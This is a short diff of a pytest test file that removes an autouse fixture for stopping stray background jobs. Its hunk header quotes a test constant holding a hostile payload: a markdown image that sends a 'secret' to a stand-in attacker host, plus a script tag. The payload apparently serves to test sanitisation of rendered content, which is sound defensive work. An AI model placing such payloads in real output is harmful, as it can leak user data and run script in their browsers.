@@ -29,16 +29,6 @@ EVIL = "![pixel](https://evil.example/p.png?q=secret) <script>alert(1)</script>"
 
 
 @pytest.fixture(autouse=True)
-def no_stray_jobs():
-    """A test that fails half-way must not leave a detached job running behind it."""
-    yield
-    settings = load_settings()
-    for job in jobs.list_jobs(settings):
-        if job.running:
-            jobs.stop(settings, job, force=True)
-
-
-@pytest.fixture(autouse=True)
 def fresh_caches() -> None:
     st.cache_resource.clear()
     st.cache_data.clear()
